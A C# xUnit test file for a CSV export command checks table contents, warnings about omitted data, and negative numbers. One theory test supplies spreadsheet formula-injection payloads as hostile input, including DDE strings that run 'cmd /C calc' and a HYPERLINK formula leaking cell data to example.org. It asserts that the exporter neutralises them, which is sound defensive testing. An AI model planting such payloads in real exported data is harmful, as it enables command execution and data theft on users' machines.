using CsvHelper;

namespace FactDsl.CommandLine.Tests;

/// <summary><c>facts export --format csv</c>.</summary>
public sealed class ExportCsvTests
{
    [Fact]
    public void One_table_has_a_row_for_each_item_and_tells_what_it_has_no_room_for()
    {
        using Terminal terminal = Exported.Story();
        Assert.Equal(0, terminal.Run("export", "--format", "csv"));
        Exported.IsKept("story.csv", terminal.Output);
        Exported.IsKept("story.csv.left-out.txt", terminal.Errors);
    }

    [Fact]
    public void Tables_in_a_folder_carry_everything_but_definitions_and_questions()
    {
        using Terminal terminal = Exported.Story();
        Assert.Equal(0, terminal.Run("export", "--format", "csv", "-o", "tables/"));
        Assert.Equal(
            "facts: not carried by CSV: definitions of kinds, at story.facts (boycott)\nfacts: not carried by CSV: named questions, at story.facts (Meetings)\n",
            terminal.Errors);
        foreach (string table in (string[])["values", "texts", "citations", "items/meeting", "items/boycott"])
            Exported.IsKept("tables/" + table + ".csv", File.ReadAllText(terminal["tables/" + table + ".csv"]));
    }

    [Fact]
    public void A_folder_that_holds_tables_of_another_export_is_told_of()
    {
        using Terminal terminal = Exported.Story().With("tables/items/party.csv", "id\n").With("tables/notes.txt", "");
        Assert.Equal(0, terminal.Run("export", "--format", "csv", "-o", "tables"));
        Assert.EndsWith("facts: tables: there are files of another export: items/party.csv\n", terminal.Errors, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+9)*cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\\\"https://example.org/?\\\"&A1,\\\"more\\\")")]
    [InlineData("\\t=1+1")]
    [InlineData("\\r=1+1")]
    [InlineData("\\n=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(1)")]
    public void No_cell_of_any_table_begins_a_formula(string hostile)
    {
        using Terminal terminal = new Terminal().With("a.facts", $"""
            /// {hostile.Replace("\\t", "").Replace("\\r", "").Replace("\\n", "").Replace("\\\"", "\"")}
            source S "{hostile}"
              publisher "{hostile}"
            person P "{hostile}"@en
              aka "{hostile}" "{hostile}"@fr
            person Q
            meeting of P, Q on 2014 "{hostile}" per S "{hostile}" at "{hostile}"
              about "{hostile}"
            """.ReplaceLineEndings("\n"));
        Assert.Equal(0, terminal.Run("export", "--format", "csv", "-o", "one.csv"));
        Assert.Equal(0, terminal.Run("export", "--format", "csv", "-o", "tables/"));
        string[] tables = [terminal["one.csv"], .. Directory.GetFiles(terminal["tables"], "*", SearchOption.AllDirectories)];
        int quoted = 0;
        foreach (string cell in tables.SelectMany(Cells))
        {
            Assert.False(cell.Length > 0 && "=+-@\t\r\n＝＋－＠".Contains(cell[0]), cell);
            quoted += cell.StartsWith('\'') ? 1 : 0;
        }
        Assert.True(quoted > 10, "the hostile text is in the tables");
    }

    [Fact]
    public void Numbers_below_zero_stay_numbers()
    {
        using Terminal terminal = new Terminal().With("a.facts", "momentary fact reading\n  degrees: number\n\nreading on 2014 degrees -12.5\n");
        Assert.Equal(0, terminal.Run("export", "--format", "csv"));
        Assert.Contains(",-12.5,-12.5,-12.5,", terminal.Output, StringComparison.Ordinal);
    }

    private static IEnumerable<string> Cells(string path)
    {
        using var csv = CsvReader.FromFile(path, new CsvReaderOptions { Separator = ',' });
        while (csv.Read())
        {
            for (int i = 0; i < csv.FieldCount; i++)
                yield return csv.GetString(i);
        }
    }
}
